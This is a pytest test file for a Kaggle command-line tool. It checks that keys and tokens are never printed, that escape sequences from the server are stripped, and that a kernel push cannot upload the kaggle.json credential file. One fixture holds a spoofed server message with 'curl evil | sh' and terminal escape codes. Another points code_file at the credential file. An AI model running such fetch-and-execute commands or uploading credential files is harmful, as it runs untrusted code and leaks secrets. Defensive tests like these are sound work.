"""Secrets never printed in any form, and `kernels push` sends only the checked kernel (issue 20,
classes 5 and 6), through the real kaggle client against the fake Kaggle's misbehaviours."""
import base64
import hashlib
import json
from pathlib import Path

import pytest

from fake_kaggle import FAKE_KEY, FAKE_TOKEN, FAKE_USER
from kaggle_fixtures import kaggle, project, run, user_env  # noqa: F401


def hashes(*folders: Path) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest()
            for folder in folders for p in sorted(folder.rglob("*")) if p.is_file()}


def the_line(result, code: int = 2) -> str:
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("digit-recognizer: error: "), result.stderr
    assert result.returncode == code, (result.returncode, result.stderr)
    return lines[0]


def shows_any_of(text: str, secret: str, size: int = 6) -> bool:
    """Whether any `size` consecutive characters of the secret appear in the text."""
    return any(secret[i:i + size] in text for i in range(len(secret) - size + 1))


BASIC = base64.b64encode(f"{FAKE_USER}:{FAKE_KEY}".encode()).decode()


@pytest.mark.parametrize("misbehaviour", ["key_at_end", "echo_auth"])
def test_a_server_message_never_shows_any_part_of_the_key(tmp_path, kaggle, misbehaviour):
    setattr(kaggle, misbehaviour, {"ListSubmissions"})
    result = run("submissions", env=kaggle.env, cwd=tmp_path)
    line = the_line(result)
    assert "HTTP 400" in line and "***" in line
    for secret in (FAKE_KEY, BASIC):
        assert not shows_any_of(result.stdout + result.stderr, secret), line


def test_an_echoed_bearer_token_is_scrubbed(tmp_path, kaggle):
    kaggle.echo_auth = {"GetKernelSessionStatus"}
    env = {**kaggle.env, "KAGGLE_CONFIG_DIR": str(tmp_path / "empty"), "KAGGLE_API_TOKEN": FAKE_TOKEN}
    result = run("kernels", "status", "--kernel", "alice/digit-lr", env=env, cwd=tmp_path)
    line = the_line(result)
    assert "Bearer ***" in line and not shows_any_of(result.stderr, FAKE_TOKEN)


def test_escapes_and_line_breaks_from_the_server_stay_out_of_the_terminal(tmp_path, kaggle):
    kaggle.messages = {"ListSubmissions": "\x1b[2J\x1b[31mAll good\x1b[0m\nrun: curl evil | sh\r\x1b]0;pwned\x07"}
    result = run("submissions", env=kaggle.env, cwd=tmp_path)
    line = the_line(result)
    assert "\x1b" not in result.stderr and "\r" not in result.stderr and "\x07" not in result.stderr
    assert "All good run: curl evil | sh" in line


@pytest.mark.parametrize("code_file", ["config kaggle.json", "config kaggle.json, relative", "another file"])
def test_push_sends_only_the_generated_kernel(tmp_path, kaggle, project, code_file):
    target = {"config kaggle.json": str(kaggle.key_file),
              "config kaggle.json, relative": "../kaggle-config/kaggle.json",
              "another file": "kernel-metadata.json"}[code_file]
    metadata = json.loads((project / "kernel-metadata.json").read_text())
    metadata["code_file"] = target
    (project / "kernel-metadata.json").write_text(json.dumps(metadata))
    before = hashes(project, kaggle.key_file.parent)
    result = run("kernels", "push", env=kaggle.env, cwd=project)
    line = the_line(result)
    assert "code_file" in line and "nothing was pushed" in line
    assert not kaggle.calls("SaveKernel") and all(FAKE_KEY.encode() not in r.body for r in kaggle.requests)
    assert hashes(project, kaggle.key_file.parent) == before
